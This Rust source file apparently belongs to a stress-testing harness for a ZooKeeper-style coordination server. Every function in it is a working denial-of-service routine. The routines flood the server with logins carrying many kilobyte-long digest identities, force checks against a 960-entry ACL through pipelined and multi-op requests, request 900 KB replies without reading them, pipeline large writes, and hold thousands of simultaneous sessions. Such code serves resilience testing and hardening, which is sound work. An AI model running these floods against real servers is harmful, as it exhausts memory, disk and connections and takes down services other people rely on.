//! Attacks within sessions: ids, ACLs, large replies and large writes.

use std::time::{Duration, Instant};

use anyhow::{Context, Result};

use super::attack::AttackState;
use super::site::{Site, Target};
use crate::wire::{Op, Session, Ticket};

const THREADS: usize = 4;
const TIMEOUT: Duration = Duration::from_secs(2);
/// Sessions that the server closes expire soon.
const SESSION_TIMEOUT_MS: i32 = 1_000;
const PREPARING_TIMEOUT_MS: i32 = 20_000;
/// The maximum number of ids of a connection besides its address, nearly as long as they may be together.
const IDS: usize = 60;
const ID_BYTES: usize = 1_000;
/// Entries for other ids in an ACL, leaving room for one's own ids.
const OTHERS: usize = 960;
const OTHER_BYTES: usize = 940;
const CHECKS: usize = 20_000;
const LARGE_BYTES: usize = 900_000;
const GUARDED: &str = "/guarded";
const GUARDED_BY_ALL: &str = "/guarded-by-all";
const LARGE: &str = "/large";
const WRITERS: usize = 8;
/// Requests that are sent before the first reply is read.
const IN_FLIGHT: usize = 200;
const LARGE_IN_FLIGHT: usize = 20;
/// Sessions with one write each. Short frames are not limited by size, so only their number limits them.
const CROWD: usize = 2_000;
const CROWD_BYTES: usize = 60_000;
const CROWD_TIMEOUT_MS: i32 = 10_000;
const CROWD_TIMEOUT: Duration = Duration::from_secs(10);

fn open(address: &str) -> Result<Session> {
    let ticket = Ticket::new(SESSION_TIMEOUT_MS);
    Session::open(address, &ticket, TIMEOUT)?.context("no session")
}

fn credentials(number: usize) -> String {
    format!("attacker{number}{}:secret", "x".repeat(ID_BYTES))
}

/// A session with all ids that it may have.
fn open_with_ids(address: &str) -> Result<Session> {
    let mut session = open(address)?;
    (0..IDS).try_for_each(|number| session.add_auth("digest", &credentials(number)))?;
    Ok(session)
}

/// Repeats logins until the server rejects them.
pub fn flood_with_ids(target: &Target, attack_state: &AttackState) {
    attack_state.repeat(THREADS, |thread| {
        let mut session = open(&target.address)?;
        for number in 0.. {
            if attack_state.is_over() {
                break;
            }
            attack_state.note(1);
            let secret = match thread {
                0 => format!("{number}{}", "s".repeat(LARGE_BYTES)),
                1 => credentials(number),
                _ => format!("{number}:secret"),
            };
            session.add_auth("digest", &secret)?;
            // Requests that show or check the ids.
            session.call(&Op::get_data("/"))?;
        }
        session.close()
    });
}

/// An ACL of other ids, with one's own at the end: only those grant access.
fn long_acl() -> Vec<(i32, &'static str, String)> {
    let other = |number: usize| format!("other{number:0>OTHER_BYTES$}:hash");
    let mut entries: Vec<_> = (0..OTHERS).map(|number| (31, "digest", other(number))).collect();
    entries.push((31, "auth", String::new()));
    entries
}

fn create_guarded(path: &str) -> Op {
    let acl = long_acl();
    let acl: Vec<_> =
        acl.iter().map(|(perms, scheme, id)| (*perms, *scheme, id.as_str())).collect();
    Op::create(path, None, 0).with_acl(&acl)
}

/// Creates the znode whose ACL is checked. The attacker does it: no privilege is needed.
pub fn make_guarded_znode(site: &Site) -> Result<()> {
    let mut session = open_with_ids(site.address())?;
    session.ok(&create_guarded(GUARDED))?;
    session.ok(&Op::create(GUARDED_BY_ALL, None, 0))?;
    session.close()
}

/// Sends requests that make the server check the longest ACL.
pub fn flood_with_acls(target: &Target, attack_state: &AttackState) {
    let checks = Op::Multi(vec![Op::check(GUARDED, -1); CHECKS]);
    let spelled: Vec<_> = (17..32).map(|perms| (perms, "auth", "")).collect();
    attack_state.repeat(THREADS, |thread| {
        let mut session = open_with_ids(&target.address)?;
        let path = format!("/long-acl-{thread}");
        while !attack_state.is_over() {
            match thread {
                0 => {
                    session.ok(&checks)?;
                    attack_state.note(CHECKS as u64);
                }
                1 => pipeline(&mut session, &Op::set_data(GUARDED, None, -1), attack_state)?,
                2 => {
                    session.call(&create_guarded(&path))?;
                    session.call(&Op::delete(&path, -1))?;
                    // Each would add a megabyte to the log, which is not the point here.
                    std::thread::sleep(Duration::from_millis(20));
                }
                // Each entry stands for all ids of the session.
                _ => pipeline(
                    &mut session,
                    &Op::set_acl(GUARDED_BY_ALL, &spelled, -1),
                    attack_state,
                )?,
            }
        }
        session.close()
    });
}

/// Sends a request many times before reading the first reply.
fn pipeline(session: &mut Session, op: &Op, attack_state: &AttackState) -> Result<()> {
    for _ in 0..IN_FLIGHT {
        session.send(op)?;
    }
    for _ in 0..IN_FLIGHT {
        session.receive()?;
        attack_state.note(1);
    }
    Ok(())
}

/// Creates a znode with large replies.
pub fn make_large_znode(site: &Site) -> Result<()> {
    let mut session = Session::connect(site.address(), PREPARING_TIMEOUT_MS)?;
    session.ok(&Op::create(LARGE, Some(&vec![7; LARGE_BYTES]), 0))?;
    session.close()
}

/// Requests much and reads nothing, on many connections.
pub fn read_slowly(target: &Target, attack_state: &AttackState) {
    const EACH: usize = 40;
    attack_state.repeat(THREADS, |_| {
        let mut crowd = Vec::new();
        while crowd.len() < EACH && !attack_state.is_over() {
            let mut session = open(&target.address)?;
            for _ in 0..EACH {
                session.send(&Op::get_data(LARGE))?;
                attack_state.note(1);
            }
            crowd.push(session);
        }
        // Their sessions expire soon; others take their place.
        let deadline = Instant::now() + TIMEOUT / 2;
        while !attack_state.is_over() && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(20));
        }
        Ok(())
    });
}

/// Short writes with long ids.
pub fn write_with_ids(target: &Target, attack_state: &AttackState) {
    attack_state.repeat(WRITERS, |_| {
        let mut session = open_with_ids(&target.address)?;
        while !attack_state.is_over() {
            pipeline(&mut session, &Op::set_data("/", Some(b"x"), -1), attack_state)?;
        }
        session.close()
    });
}

fn written(thread: usize) -> String {
    format!("/written-{thread}")
}

/// Creates a znode for each writer.
pub fn make_written_znodes(site: &Site) -> Result<()> {
    let mut session = Session::connect(site.address(), PREPARING_TIMEOUT_MS)?;
    for thread in 0..WRITERS {
        session.ok(&Op::create(&written(thread), None, 0))?;
    }
    session.close()
}

/// Long writes.
pub fn write_large_data(target: &Target, attack_state: &AttackState) {
    let data = vec![7; LARGE_BYTES];
    attack_state.repeat(WRITERS, |thread| {
        let mut session = open(&target.address)?;
        let write = Op::set_data(&written(thread), Some(&data), -1);
        let mut in_flight = 0;
        while !attack_state.is_over() {
            if in_flight == LARGE_IN_FLIGHT {
                session.receive()?;
                in_flight -= 1;
            }
            session.send(&write)?;
            in_flight += 1;
            attack_state.note(1);
        }
        // Otherwise the next turn would start with a disk that is still busy with this one.
        for _ in 0..in_flight {
            session.receive()?;
        }
        session.close()
    });
}

/// One write of nearly 64 KiB from each of many sessions, all at the same time.
pub fn write_as_crowd(target: &Target, attack_state: &AttackState) {
    let data = vec![7; CROWD_BYTES];
    attack_state.repeat(THREADS, |thread| {
        let write = Op::set_data(&written(thread), Some(&data), -1);
        let mut crowd = Vec::new();
        while crowd.len() < CROWD / THREADS && !attack_state.is_over() {
            let ticket = Ticket::new(CROWD_TIMEOUT_MS);
            let session = Session::open(&target.address, &ticket, CROWD_TIMEOUT)?;
            crowd.push(session.context("no session")?);
        }
        while !attack_state.is_over() {
            for session in &mut crowd {
                session.send(&write)?;
                attack_state.note(1);
            }
            for session in &mut crowd {
                session.receive()?;
            }
        }
        for session in &mut crowd {
            session.send(&Op::CloseSession)?;
        }
        Ok(())
    });
}
